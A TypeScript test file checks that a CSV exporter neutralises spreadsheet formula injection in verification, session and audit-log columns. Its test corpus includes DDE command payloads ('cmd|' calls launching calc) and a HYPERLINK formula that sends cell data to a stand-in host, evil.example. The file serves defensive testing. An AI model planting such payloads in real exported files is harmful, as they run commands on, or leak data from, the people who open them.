import { AUDIT_COLUMNS, SESSION_COLUMNS, VERIFICATION_COLUMNS } from '@standpoint/contract';
import fc from 'fast-check';
import { expect, it } from 'vitest';
import { AUDIT_CELLS } from '../audit/cells.ts';
import { SESSION_CELLS, VERIFICATION_CELLS } from './columns.ts';
import { type Cell, cellOf, harmless, lineOf, plainOf } from './csv.ts';

/** A reader by RFC 4180, made for this test alone. */
function read(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      rows.at(-1)!.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      rows.at(-1)!.push(cell);
      cell = '';
      rows.push([]);
      i++;
    } else cell += c;
  }
  return rows.slice(0, -1);
}

/** Cells that table programs run, and texts that merely look odd. */
const CORPUS = [
  '=1+1',
  '=HYPERLINK("https://evil.example?x="&A1,"open")',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-2+3',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\uff1d1+1',
  "'=1+1",
  "''=1+1",
  "'plain",
  'plain',
  '',
  'a,b',
  'a"b',
  'a\r\nb',
  ' spaces ',
  'ünïcödé 中文 🙂',
  '"=1+1"',
  ',=1+1',
  ' =1+1',
  '\u200b=1+1',
  'a;=1+1',
  'a; "=1+1',
  'a\t@SUM(1)',
  'a\n-1+1',
  "a;'plain",
  '"\r\n=1+1,',
];

it.each(CORPUS)('is no formula, and is read as it was: %j', (text) => {
  const line = lineOf([text, 'next']);
  const [[cell, next], ...more] = read(line) as [string[]];
  expect(more).toEqual([]);
  expect(next).toBe('next');
  // As a table program sees it, after its own reading of quotes.
  expect(cell).not.toMatch(/^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/);
  expect(plainOf(cell!)).toBe(text);
});

/** Where the comma is the decimal sign, a line is parted otherwise, and quotes inside of a part are letters. */
const parts = (line: string) =>
  line.split(/[;\t\r\n]/).map((part) => part.replace(/^["\s\u200b\ufeff]+/, ''));
const FORMULA = /^[=+\-@\uff1d\uff0b\uff0d\uff20]/;

it.each(CORPUS)('is no formula where a semicolon parts the cells: %j', (text) => {
  for (const part of parts(lineOf(['id', text, 'next']))) expect(part).not.toMatch(FORMULA);
});

it('is harmless and is read as it was, whatever it is', () => {
  const text = fc.string({ unit: fc.constantFrom(...`'";\t\r\n=+-@ ,a1`), maxLength: 12 });
  fc.assert(
    fc.property(text, (text) => {
      expect(plainOf(harmless(text))).toBe(text);
      expect(read(lineOf([text, 'next']))[0]![0]).toBe(harmless(text));
      for (const part of parts(lineOf(['id', text, 'next']))) expect(part).not.toMatch(FORMULA);
    }),
    { numRuns: 2_000 },
  );
});

/** Answers every question about it with the same text, also those about its parts. */
const everywhere = (text: string): never =>
  new Proxy(
    {},
    {
      get: (_, name) => {
        if (['reason_codes', 'reasons', 'assurance', 'attempts', 'handoffs'].includes(String(name)))
          return Object.assign([text], { some: () => false });
        if (['jurisdiction', 'position', 'network', 'policy', 'detail'].includes(String(name)))
          return everywhere(text);
        return name === 'toJSON' ? () => text : text;
      },
    },
  ) as never;

it.each([
  ['verifications', VERIFICATION_COLUMNS, VERIFICATION_CELLS],
  ['sessions', SESSION_COLUMNS, SESSION_CELLS],
  ['the audit log', AUDIT_COLUMNS, AUDIT_CELLS],
] as [string, readonly string[], Record<string, (one: never) => Cell>][])(
  'no column of %s runs what stands in it, and no head either',
  (_, columns, cells) => {
    for (const text of CORPUS.filter((each) => each !== ''))
      for (const column of columns) {
        const line = lineOf([cells[column]!(everywhere(text))]);
        expect([column, read(line)[0]![0]!.replace(/^["\s]+/, '')]).toEqual([
          column,
          expect.not.stringMatching(FORMULA),
        ]);
      }
    expect(lineOf(columns)).toMatch(/^[a-z0-9_,]+\r\n$/);
  },
);

it('mutation control: without the quote in front, a formula reaches the table program', () => {
  const [[cell]] = read(lineOf([CORPUS[0]!]).replace("'=", '=')) as [string[]];
  expect(cell).toBe('=1+1');
});

it('leaves numbers, truth and nothing as they are, and says formulas in text only', () => {
  expect([-74.006, true, null].map(cellOf)).toEqual(['-74.006', 'true', '']);
  expect(harmless('-74.006')).toBe("'-74.006");
});
